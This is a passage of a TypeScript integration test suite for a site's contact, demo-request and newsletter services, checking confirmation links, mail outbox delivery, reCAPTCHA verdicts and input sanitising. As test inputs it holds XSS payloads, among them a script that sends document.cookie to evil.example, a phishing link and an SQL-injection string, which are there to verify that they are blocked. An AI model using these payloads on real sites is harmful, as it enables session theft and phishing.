    const input = demoLead({ name: "Joko Susilo" });
    const stored = await createLeadService(db, leadSettings()).submit(input, screeningOf(verdict));
    const [row] = await db.select().from(leads).where(eq(leads.id, stored.id));
    expect(row).toMatchObject({ status: "spam", recaptchaScore: 0.1 });
    expect(row?.statusReason).toContain("score");
    expect(await outboxOf(stored.id)).toHaveLength(0);
  });

  describe("newsletter", () => {
    const signingSecret = "newsletter-signing-secret-for-the-tests-0123";
    /** The service on a clock the test moves: sign-ups, links and the sweep all read it. */
    let clock = new Date();
    const service = () => createNewsletterService(db, { siteUrl, signingSecret, now: () => clock });
    const subscriberOf = async (email: string) =>
      (await db.select().from(newsletterSubscribers).where(eq(newsletterSubscribers.email, email)))[0];
    const newsletterRows = (email: string) =>
      db.select().from(outbox).where(eq(outbox.subjectEmail, email)).orderBy(asc(outbox.id));
    const minutes = (n: number) => n * 60_000;
    const days = (n: number) => n * 24 * 60 * 60_000;
    const advance = (ms: number) => {
      clock = new Date(clock.getTime() + ms);
    };
    /** The confirmation link a mail carries, as the site's path and token. */
    const confirmationLinkIn = (text: string, lang: "en" | "id") => {
      const link = must(
        /https?:\/\/\S+?[?&]token=[\w.-]+/.exec(text)?.[0],
        "a confirmation link in the mail",
      );
      const url = new URL(link);
      expect(`${url.origin}${url.pathname}`).toBe(`${siteUrl}${pathTo("confirmSubscription", lang)}`);
      return must(url.searchParams.get("token"), "the link's token");
    };
    /** Sends what is queued and returns the mails the address has received. */
    const deliver = async (email: string, expected: number) => {
      await workerOn(db).runOnce();
      await smtp.waitFor(expected);
      return mailsTo(email);
    };

    beforeEach(() => {
      clock = new Date();
    });

    it("keeps a sign-up pending and mails one confirmation with a signed link and List-Unsubscribe", async () => {
      const email = unique("wulan.sari", "tokomitra.co.id");
      const signedUpAt = clock;
      await service().subscribe({ email, lang: "id", page: "/blog" });
      const subscriber = must(await subscriberOf(email), "the subscriber");
      expect(subscriber).toMatchObject({
        lang: "id",
        sourcePage: "/blog",
        subscribedAt: signedUpAt,
        confirmationSentAt: signedUpAt,
        confirmedAt: null,
        unsubscribedAt: null,
      });
      const unsubscribe = `${siteUrl}/berhenti-berlangganan?token=${subscriber.unsubscribeToken}`;

      const rows = await newsletterRows(email);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({ channel: "newsletter-mail", leadId: null, status: "pending" });
      const payload = must(rows[0], "the outbox row").payload as { headers: Record<string, string> };
      expect(payload.headers["List-Unsubscribe"]).toBe(`<${unsubscribe}>`);
      expect(payload.headers["List-Unsubscribe-Post"]).toBe("List-Unsubscribe=One-Click");

      const [mail] = await deliver(email, 1);
      const received = must(mail, "the confirmation mail");
      expect(received.subject).toBe(emailsId.newsletter.subject);
      expect(headerLine(received, "List-Unsubscribe")).toContain(`<${unsubscribe}>`);
      expect(headerLine(received, "List-Unsubscribe-Post")).toContain("List-Unsubscribe=One-Click");
      expect(received.text).toContain(unsubscribe);
      const token = confirmationLinkIn(received.text ?? "", "id");
      expect(htmlOf(received)).toContain(escapeHtml(`?token=${token}`));
      expect((await newsletterRows(email))[0]).toMatchObject({ status: "sent", attempts: 1 });

      // The link works: the subscription is confirmed once, at the first click.
      advance(minutes(90));
      const confirmedAt = clock;
      expect(await service().confirm(token)).toBe("confirmed");
      expect(await subscriberOf(email)).toMatchObject({
        confirmedAt,
        subscribedAt: signedUpAt,
        sourcePage: "/blog",
      });
      advance(days(30));
      expect(await service().confirm(token)).toBe("confirmed");
      expect((await subscriberOf(email))?.confirmedAt).toEqual(confirmedAt);
    });

    it("refuses a changed link, and one for no subscriber, as not valid", async () => {
      const email = unique("dimas.saputra", "gudang-nusantara.co.id");
      await service().subscribe({ email, lang: "en", page: "/" });
      const [mail] = await deliver(email, 1);
      const token = confirmationLinkIn(must(mail, "the mail").text ?? "", "en");
      const [id, sent, signature] = token.split(".") as [string, string, string];
      expect(await service().confirm(`${Number(id) + 1}.${sent}.${signature}`)).toBe("invalid");
      expect(await service().confirm(`${id}.${Number(sent) + 60}.${signature}`)).toBe("invalid");
      expect(await service().confirm("")).toBe("invalid");
      const other = createNewsletterService(db, {
        siteUrl,
        signingSecret: "another-secret-of-32-characters-or-more",
      });
      expect(await other.confirm(token)).toBe("invalid");
      // A correctly signed link for a subscriber that does not exist.
      const stranger = createConfirmationLinks(signingSecret).sign(2_000_000_000, clock);
      expect(await service().confirm(stranger)).toBe("invalid");
      expect((await subscriberOf(email))?.confirmedAt).toBeNull();
    });

    it("answers every repeat sign-up alike, mailing only a new, returning or long-waiting address", async () => {
      const email = unique("farah.hanim", "sdn-bhd-mitra.my");
      const newsletter = service();
      const firstSignUp = clock;
      await newsletter.subscribe({ email, lang: "en", page: "/blog" });
      expect(await newsletterRows(email)).toHaveLength(1);

      // Pending, mailed 14 minutes ago: no new mail.
      advance(minutes(14));
      await newsletter.subscribe({ email, lang: "id", page: "/harga" });
      expect(await newsletterRows(email)).toHaveLength(1);
      // Fifteen minutes after the mail: a new one, in the language of this visit; the same subscription.
      advance(minutes(1));
      await newsletter.subscribe({ email, lang: "id", page: "/harga" });
      expect(await newsletterRows(email)).toHaveLength(2);
      expect(await subscriberOf(email)).toMatchObject({
        lang: "id",
        subscribedAt: firstSignUp,
        sourcePage: "/blog",
        confirmationSentAt: clock,
      });
      // Sent one after the other, but the order they reach the server in is not the test's to fix.
      const mails = await deliver(email, 2);
      const mailIn = (subject: string) => mails.find((mail) => mail.subject === subject);
      expect(mails).toHaveLength(2);
      const firstLink = confirmationLinkIn(mailIn(emailsEn.newsletter.subject)?.text ?? "", "en");
      confirmationLinkIn(mailIn(emailsId.newsletter.subject)?.text ?? "", "id");

      // Either mail's link confirms it; then a sign-up sends nothing at all.
      expect(await newsletter.confirm(firstLink)).toBe("confirmed");
      advance(days(1));
      await newsletter.subscribe({ email, lang: "en", page: "/" });
      expect(await newsletterRows(email)).toHaveLength(2);

      // Unsubscribed, then back: pending again, a new mail in this visit's language, the old link void.
      const { unsubscribeToken } = must(await subscriberOf(email), "the subscriber");
      expect(await newsletter.unsubscribe(unsubscribeToken)).toBe("unsubscribed");
      advance(minutes(1));
      const returnedAt = clock;
      await newsletter.subscribe({ email, lang: "en", page: "/pricing" });
      expect(await subscriberOf(email)).toMatchObject({
        unsubscribedAt: null,
        confirmedAt: null,
        subscribedAt: returnedAt,
        sourcePage: "/pricing",
        lang: "en",
        unsubscribeToken,
      });
      const again = await deliver(email, 3);
      expect(again).toHaveLength(3);
      expect(again[2]?.subject).toBe(emailsEn.newsletter.subject);
      expect(await newsletter.confirm(firstLink)).toBe("expired");
      expect((await subscriberOf(email))?.confirmedAt).toBeNull();
      expect(await newsletter.confirm(confirmationLinkIn(again[2]?.text ?? "", "en"))).toBe("confirmed");
    });

    it("unsubscribes a pending address too, after which its link confirms nothing", async () => {
      const email = unique("rizky.ramadhan", "bukalapak-mitra.id");
      await service().subscribe({ email, lang: "en", page: "/" });
      const [mail] = await deliver(email, 1);
      const token = confirmationLinkIn(must(mail, "the mail").text ?? "", "en");
      const { unsubscribeToken } = must(await subscriberOf(email), "the subscriber");

      expect(await service().unsubscribe(unsubscribeToken)).toBe("unsubscribed");
      const first = must((await subscriberOf(email))?.unsubscribedAt, "unsubscribed_at");
      expect(await service().unsubscribe(unsubscribeToken)).toBe("unsubscribed");
      expect((await subscriberOf(email))?.unsubscribedAt?.getTime()).toBe(first.getTime());
      expect(await service().confirm(token)).toBe("expired");
      expect((await subscriberOf(email))?.confirmedAt).toBeNull();

      expect(await service().unsubscribe("00000000-0000-4000-8000-000000000000")).toBe("unknown");
      expect(await service().unsubscribe("not-a-token")).toBe("unknown");
      expect(await service().unsubscribe("' or 1=1 --")).toBe("unknown");
    });

    it("lets a link expire after 14 days, and the worker's sweep deletes what nobody confirmed", async () => {
      const pending = unique("yusuf.hakim", "pelabuhan-sejahtera.co.id");
      const confirmed = unique("nur.aini", "klinik-sehat.co.id");
      const legacy = unique("ahmad.fauzi", "sebelum-konfirmasi.co.id");
      const newsletter = service();
      await newsletter.subscribe({ email: pending, lang: "id", page: "/blog" });
      await newsletter.subscribe({ email: confirmed, lang: "en", page: "/" });
      // A subscriber from before confirmation existed: never sent a link.
      await db.insert(newsletterSubscribers).values({ email: legacy, lang: "id", sourcePage: "/" });
      await deliver(pending, 2);
      const pendingLink = confirmationLinkIn(mailsTo(pending)[0]?.text ?? "", "id");
      const confirmedLink = confirmationLinkIn(mailsTo(confirmed)[0]?.text ?? "", "en");
      expect(await newsletter.confirm(confirmedLink)).toBe("confirmed");

      const worker = createOutboxWorker(db, {
        mailer,
        webhookSecrets: secrets,
        retryBaseMs: 50,
        maxAttempts: 5,
        pollMs: 50,
        log: workerLog,
        sweeps: [{ name: "newsletter sign-ups nobody confirmed", run: () => newsletter.sweepUnconfirmed() }],
      });
      // On the last day the link still works, and the sweep leaves the sign-up alone.
      advance(days(14) - minutes(1));
      await worker.sweepNow();
      expect(await subscriberOf(pending)).toBeDefined();

      advance(minutes(2));
      await worker.sweepNow();
      expect(await subscriberOf(pending)).toBeUndefined();
      // Its confirmation mail held the address too.
      expect(await newsletterRows(pending)).toEqual([]);
      expect(await newsletter.confirm(pendingLink)).toBe("expired");
      expect(await subscriberOf(confirmed)).toMatchObject({ unsubscribedAt: null });
      expect((await subscriberOf(confirmed))?.confirmedAt).toBeInstanceOf(Date);
      expect(await newsletterRows(confirmed)).toHaveLength(1);
      expect(await subscriberOf(legacy)).toBeDefined();
      expect(workerLog.lines.map((line) => line.msg)).toContain(
        "sweep: newsletter sign-ups nobody confirmed: 1 removed",
      );
    });

    it("says a link opened after 14 days expired, even before the sweep ran", async () => {
      const email = unique("putri.ayu", "kopi-senja.id");
      await service().subscribe({ email, lang: "en", page: "/" });
      const [mail] = await deliver(email, 1);
      const token = confirmationLinkIn(must(mail, "the mail").text ?? "", "en");
      advance(days(14) + minutes(1));
      expect(await service().confirm(token)).toBe("expired");
      expect((await subscriberOf(email))?.confirmedAt).toBeNull();
    });

    it("erases a pending subscriber with its confirmation mail", async () => {
      const email = unique("bayu.pratama", "sinarmas-logistik.co.id");
      await service().subscribe({ email, lang: "id", page: "/" });
      const erased = await forget(db, { email, yes: true }, { out: () => undefined, err: () => undefined });
      expect(erased).toMatchObject({ newsletter_subscribers: 1, outbox: 1 });
      expect(await subscriberOf(email)).toBeUndefined();
      expect(await newsletterRows(email)).toEqual([]);
    });
  });

  it("stores only the sanitiser's output of a contact message: no script, handler or javascript: URL", async () => {
    const dirty =
      '<p onclick="steal()">Halo tim Regu,</p>' +
      '<img src="x" onerror="alert(document.cookie)">' +
      "<script>fetch('https://evil.example/?c='+document.cookie)</script>" +
      '<p>Mohon info <b>harga paket Business</b> untuk 250 karyawan. <a href="javascript:alert(1)">klik</a> ' +
      '<a href="https://www.regu.example/harga" onmouseover="x()">harga</a></p>' +
      '<svg><g onload="alert(1)"></g></svg><iframe src="javascript:alert(2)"></iframe>' +
      '<a href="jav&#x09;ascript:alert(3)">tautan</a>';
    const clean = sanitizeMessageHtml(dirty, "html");
    const input = contactLead({
      name: "Agus Salim",
      company: "PT Nusantara Digital Kreatif",
      details: { topic: "sales", messageHtml: clean.html, messageText: clean.text },
    });
    const stored = await createLeadService(db, leadSettings()).submit(input, newScreening);
    const [row] = await db.select().from(leads).where(eq(leads.id, stored.id));
    const details = must(row, "the lead row").details as { messageHtml: string; messageText: string };
    for (const forbidden of [
      /<script/i,
      /onerror/i,
      /javascript:/i,
      /onclick/i,
      /onload/i,
      /<iframe/i,
      /<img/i,
    ]) {
      expect(details.messageHtml).not.toMatch(forbidden);
    }
    expect(details.messageHtml).toContain("<strong>harga paket Business</strong>");
    expect(details.messageHtml).toContain('href="https://www.regu.example/harga"');
    expect(details.messageText).toContain("Mohon info harga paket Business untuk 250 karyawan.");

    expect(await workerOn(db).runOnce()).toBe(2);
    await smtp.waitFor(2);
    for (const mail of smtp.messages) {
      expect(htmlOf(mail)).not.toMatch(/<script|onerror|javascript:/i);
    }
    // The message goes to sales only: the visitor's copy would be a stranger's words in our mail.
    expect(htmlOf(onlyMailTo(salesEmail))).toContain("<strong>harga paket Business</strong>");
    expect(htmlOf(onlyMailTo(input.email))).not.toContain("harga paket Business");
  });

  it(`sends each message exactly once with two workers${backend.name === "PostgreSQL server" ? " on two connection pools" : ""}`, async () => {
    const service = createLeadService(db, leadSettings());
    const people = [
      ["Rina Kartika", "PT Angkasa Pura Logistik"],
      ["Yoga Prasetyo", "CV Mitra Bangunan"],
      ["Fitri Handayani", "PT Bumi Hijau Lestari"],
      ["Dimas Anggara", "PT Samudra Biru Perikanan"],
      ["Lestari Wahyuni", "Klinik Pratama Sehat"],
      ["Hafiz Zainal", "Syarikat Maju Jaya Sdn. Bhd."],
      ["Nurul Huda", "Restoran Selera Kampung"],
      ["Arif Rahman", "PT Cahaya Timur Energi"],
      ["Siti Aminah binti Yusof", "Tadika Bintang Kecil"],
      ["Budi Santoso", "Toko Bangunan Sentosa"],
      ["Mei Ling Tan", "Penang Logistics Sdn. Bhd."],
      ["Kadek Ayu Pratiwi", "Villa Ubud Asri"],
      ["Muhammad Irfan", "PT Sawit Makmur Abadi"],
      ["Sri Wahyuningsih", "Katering Ibu Sri"],
      ["Azman bin Hashim", "Bengkel Azman Motor"],
    ] as const;
    for (const [name, company] of people) {
      await service.submit(contactLead({ name, company }), newScreening);
    }
    const expected = people.length * 2;
    expect(await db.select().from(outbox)).toHaveLength(expected);

    const workers = [workerOn(database.db), workerOn(second.db)];
    let tried = 0;
    for (let round = 0; round < 10; round++) {
      const counts = await Promise.all(workers.map((worker) => worker.runOnce()));
      tried += counts.reduce((sum, count) => sum + count, 0);
      if (counts.every((count) => count === 0)) break;
    }
    expect(tried).toBe(expected);
    await smtp.waitFor(expected);
    expect(smtp.messages).toHaveLength(expected);
    // Each mail once: one notification per visitor to sales, one confirmation to each visitor.
    const salesSubjects = mailsTo(salesEmail).map((mail) => mail.subject);
    expect(new Set(salesSubjects).size).toBe(people.length);
    const visitors = smtp.messages.flatMap((mail) => addressesOf(mail.to)).filter((to) => to !== salesEmail);
    expect(new Set(visitors).size).toBe(people.length);

    const rows = await db.select().from(outbox);
    expect(rows.every((row) => row.status === "sent" && row.attempts === 1)).toBe(true);
    expect(await db.select().from(outboxAttempts)).toHaveLength(expected);
  });

  describe("forms posted to their pages", () => {
    /** What the server hands the pages' actions, on this database, with the given bot check. */
    const servicesWith = (botCheck: BotCheck): Services => ({
      newsletter: createNewsletterService(db, {
        siteUrl,
        signingSecret: "newsletter-signing-secret-0123456789abcdef",
      }),
      leads: createLeadService(db, leadSettings()),
      rateLimiter: createRateLimiter(db),
      botCheck,
      downloads: createDownloadLinks("download-signing-secret-for-the-tests-0123456789"),
      consent: createConsentService(db),
      notifyOutbox: () => undefined,
      log: memoryLog(),
    });
    const site = (path: string) => `${siteUrl}${path}`;

    /** A demo request as the Indonesian page posts it, for the first slot it offers. */
    const demoForm = (email: string) => ({
      name: "Rudi Hartono",
      email,
      phone: "+62 811-2233-4455",
      company: "PT Cahaya Logam Sentosa",
      companySize: "51-200",
      country: "ID",
      interests: ["time", "leave"],
      slot: must(demoSlots(new Date(), "ID")[0], "an offered slot").toISOString(),
      timeZone: "Asia/Jakarta",
      landingPage: "/fitur/absensi-online",
    });

    it("stores a demo request whose UTM source, referrer and time zone hold a NUL, without the NUL", async () => {
      const email = unique("rudi.hartono", "cahayalogam.co.id");
      const result = await postToAction(demoAction, {
        url: site(pathTo("requestDemo", "id")),
        services: servicesWith(recaptchaCheck({ secret: undefined })),
        fields: {
          ...demoForm(email),
          utm_source: "goo\u0000gle",
          utm_campaign: "absensi\u0000-2025\u0085",
          referrer: "https://www.google.co.id/\u0000",
          timeZone: "Asia/\u0000Jakarta",
        },
      });
      expect(result).toBeInstanceOf(Response);
      expect(result instanceof Response ? result.status : 0).toBe(303);

      const [row] = await db.select().from(leads).where(eq(leads.email, email));
      const stored = must(row, "the lead row");
      expect(stored.attribution).toEqual({
        page: pathTo("requestDemo", "id"),
        landingPage: "/fitur/absensi-online",
        utm_source: "google",
        utm_campaign: "absensi-2025",
        referrer: "https://www.google.co.id/",
      });
      expect(stored.details).toMatchObject({ timeZone: "Asia/Jakarta", country: "ID" });
      expect(await outboxOf(stored.id)).not.toHaveLength(0);
    });

    it.each(["id", "en"] as const)(
      "refuses a name holding a NUL on the %s page, saying which field, and keeps what was typed",
      async (lang) => {
        const email = unique("rudi.nul", "cahayalogam.co.id");
        const form = { ...demoForm(email), name: "Rudi\u0000Hartono" };
        const result = await postToAction(demoAction, {
          url: site(pathTo("requestDemo", lang)),
          services: servicesWith(recaptchaCheck({ secret: undefined })),
          fields: form,
        });
        expect(result).toMatchObject({
          init: { status: 400 },
          data: { status: "invalid", errors: { name: "control" } },
        });
        const echoed = result instanceof Response ? {} : (result.data.values ?? {});
        expect(echoed).toMatchObject({ company: form.company, phone: form.phone, email });
        // What the page shows under the field.
        const words = formWords[lang];
        expect(fill(words.errors.control, { field: words.fields.name.label })).toMatch(
          lang === "id"
            ? /^Nama lengkap mengandung karakter kontrol yang tidak terlihat/
            : /^Full name contains invisible control characters/,
        );
        expect(await db.select().from(leads).where(eq(leads.email, email))).toHaveLength(0);
      },
    );

    const phishingLink = '<a href="https://evil.example/phish">https://www.regu.example/login</a>';
    /** A contact message as the English page posts it with JavaScript, with a reCAPTCHA token. */
    const contactForm = (email: string) => ({
      name: "Budi https://evil.example",
      email,
      company: phishingLink,
      topic: "support",
      message: `<p>Your Regu account is locked. Sign in again: ${phishingLink}</p><p>Click https://evil.example</p>`,
      messageFormat: "html",
      recaptchaToken: "token-from-the-page",
    });
    const humanAnswer = { success: true, score: 0.9, action: "contact", hostname: "regu.example" };

    it("confirms a contact message to the visitor's address without a word or a link of it", async () => {
      siteVerify.respond({ status: 200, json: humanAnswer });
      const email = unique("budi.target", "majujaya.co.id");
      const result = await postToAction(contactAction, {
        url: site(pathTo("contact", "en")),
        services: servicesWith(recaptchaCheck()),
        fields: contactForm(email),
      });
      expect(result instanceof Response ? result.status : 0).toBe(303);
      const [row] = await db.select().from(leads).where(eq(leads.email, email));
      expect(row).toMatchObject({ status: "new", recaptchaScore: 0.9 });

      expect(await workerOn(db).runOnce()).toBe(2);
      await smtp.waitFor(2);
      const confirmation = onlyMailTo(email);
      const received = { text: confirmation.text ?? "", html: htmlOf(confirmation) };
      for (const [part, body] of Object.entries(received)) {
        for (const writing of ["evil.example", "phish", "regu.example/login", "locked", "Click"]) {
          expect(body, `the confirmation's ${part} holds "${writing}"`).not.toContain(writing);
        }
        expect(body).toContain("Hi Budi,");
        expect(body).toContain(formWords.en.topics.support);
      }
      expect(confirmation.subject).toBe(emailsEn.contact.subject);

      // Sales gets all of it to judge the message for themselves, the links written out with their real
      // target: a link's label could show one address and lead to another.
      const sales = onlyMailTo(salesEmail);
      expect(sales.text).toContain("Your Regu account is locked.");
      expect(htmlOf(sales)).not.toContain('href="https://evil.example');
      expect(htmlOf(sales)).toContain("https://www.regu.example/login (https://evil.example/phish)");
      expect(htmlOf(sales)).toContain(escapeHtml(phishingLink));
    });

    it.each([
      ["reCAPTCHA is not configured", () => Promise.resolve(recaptchaCheck({ secret: undefined }))],
      [
        "the verify service is unreachable",
        async () => recaptchaCheck({ verifyUrl: `http://127.0.0.1:${await freePort()}/siteverify` }),
      ],
      [
        "the verify service fails",
        () => {
          siteVerify.respond({ status: 503, json: { error: "unavailable" } });
          return Promise.resolve(recaptchaCheck());
        },
      ],
    ])(
      "queues no mail to the visitor's address when %s, and the sales notice all the same",
      async (reason, check) => {
        const email = unique("budi.unchecked", "majujaya.co.id");
        const result = await postToAction(contactAction, {
          url: site(pathTo("contact", "id")),
          services: servicesWith(await check()),
          fields: { ...contactForm(email), name: "Budi Santoso", company: "PT Maju Jaya" },
        });
        expect(result instanceof Response ? result.status : 0).toBe(303);
        const [row] = await db.select().from(leads).where(eq(leads.email, email));
        const lead = must(row, "the lead row");
        expect(lead.status).toBe("unverified");
        expect(lead.statusReason).toMatch(/reCAPTCHA/);
        expect((await outboxOf(lead.id)).map((message) => message.channel)).toEqual(["sales-mail"]);

        expect(await workerOn(db).runOnce()).toBe(1);
        await smtp.waitFor(1);
        expect(mailsTo(email), reason).toHaveLength(0);
        const sales = onlyMailTo(salesEmail);
        expect(sales.subject).toMatch(/^\[Unverified\] New contact message: Budi Santoso, PT Maju Jaya/);
        expect(sales.text).toContain("the visitor got no confirmation email");
      },
    );

    it("subscribes from the newsletter page whose page field holds a NUL, storing the page without it", async () => {
      const email = unique("wulan.nul", "tokomitra.co.id");
      const result = await postToAction(newsletterAction, {
        url: site(pathTo("newsletter", "id")),
        services: servicesWith(recaptchaCheck({ secret: undefined })),
        fields: { email, page: "/blog\u0000/absensi" },
      });
      expect(result instanceof Response ? result.status : 0).toBe(303);
      const [subscriber] = await db
        .select()
        .from(newsletterSubscribers)
        .where(eq(newsletterSubscribers.email, email));
      expect(subscriber?.sourcePage).toBe("/blog/absensi");
    });
  });
});

// ---------------------------------------------------------------------------------------------------------
// reCAPTCHA over real HTTP against a local verify endpoint.

const recaptchaSecret = "recaptcha-secret-test";

function recaptchaCheck(options: { secret?: string; verifyUrl?: string } = {}): BotCheck {
  return createBotCheck({
    secret: "secret" in options ? options.secret : recaptchaSecret,
    verifyUrl: options.verifyUrl ?? `${siteVerify.url}/recaptcha/api/siteverify`,
    thresholds: { default: 0.5, demo: 0.5 },
    hostnames: ["localhost", "regu.example"],
    timeoutMs: 2000,
  });
}

/** How the lead forms turn a verdict into a screening (app/leads/lead-action.server.ts). */
function screeningOf(verdict: BotVerdict): Screening {
  if (verdict.verdict === "human") return { status: "new", score: verdict.score };
  if (verdict.verdict === "spam") return { status: "spam", reason: verdict.reason, score: verdict.score };
  return { status: "unverified", reason: verdict.reason };
}

describe("reCAPTCHA check against a verify server over HTTP", () => {
  beforeEach(() => {
    siteVerify.requests.length = 0;
  });

  const answer = (json: Record<string, unknown>) => siteVerify.respond({ status: 200, json });

  it("judges a high score with the right action and hostname human, and posts secret, token and IP", async () => {
    answer({ success: true, score: 0.9, action: "demo", hostname: "localhost" });
    expect(await recaptchaCheck().verify("token-abc", "demo", "36.72.18.9")).toEqual({
      verdict: "human",
      score: 0.9,
    });
    expect(siteVerify.requests).toHaveLength(1);
    const request = must(siteVerify.requests[0], "the verify request");
    expect(request).toMatchObject({ method: "POST", path: "/recaptcha/api/siteverify" });
    expect(request.headers["content-type"]).toContain("application/x-www-form-urlencoded");
    const form = new URLSearchParams(request.body);
    expect(Object.fromEntries(form)).toEqual({
      secret: recaptchaSecret,
      response: "token-abc",
      remoteip: "36.72.18.9",
    });
  });

  it.each([
    ["a low score", { success: true, score: 0.1, action: "demo", hostname: "localhost" }, "score"],
    ["the wrong action", { success: true, score: 0.9, action: "contact", hostname: "localhost" }, "action"],
    [
      "a foreign hostname",
      { success: true, score: 0.9, action: "demo", hostname: "evil.example" },
      "hostname",
    ],
    ["a refused token", { success: false, "error-codes": ["timeout-or-duplicate"] }, "timeout-or-duplicate"],
  ])("judges %s spam", async (_case, json, reason) => {
    answer(json);
    const verdict = await recaptchaCheck().verify("token-abc", "demo", undefined);
    expect(verdict.verdict).toBe("spam");
    expect(verdict.verdict === "spam" ? verdict.reason : "").toContain(reason);
  });

  it("judges a verify server answering 500 unverified", async () => {
    siteVerify.respond({ status: 500, json: { error: "internal" } });
    const verdict = await recaptchaCheck().verify("token-abc", "demo", "36.72.18.9");
    expect(verdict).toEqual({ verdict: "unverified", reason: "reCAPTCHA answered 500" });
  });

  it("judges an unreachable verify server unverified", async () => {
    const port = await freePort();
    const verdict = await recaptchaCheck({ verifyUrl: `http://127.0.0.1:${port}/siteverify` }).verify(
      "token-abc",
      "demo",
      "36.72.18.9",
    );
    expect(verdict.verdict).toBe("unverified");
    expect(verdict.verdict === "unverified" ? verdict.reason : "").toContain("unreachable");
  });

  it("judges a form without a token unverified without asking the server", async () => {
    answer({ success: true, score: 0.9, action: "demo", hostname: "localhost" });
    expect(await recaptchaCheck().verify(undefined, "demo", "36.72.18.9")).toEqual({
      verdict: "unverified",
      reason: "no reCAPTCHA token",
    });
    expect(siteVerify.requests).toHaveLength(0);
  });

  it("judges every form unverified when no secret is configured: the check cannot run", async () => {
    const check = recaptchaCheck({ secret: undefined });
    expect(check.enabled).toBe(false);
    const unchecked = { verdict: "unverified", reason: "reCAPTCHA is not configured" };
    expect(await check.verify(undefined, "demo", undefined)).toEqual(unchecked);
    expect(await check.verify("token-abc", "demo", undefined)).toEqual(unchecked);
    expect(siteVerify.requests).toHaveLength(0);
  });
});
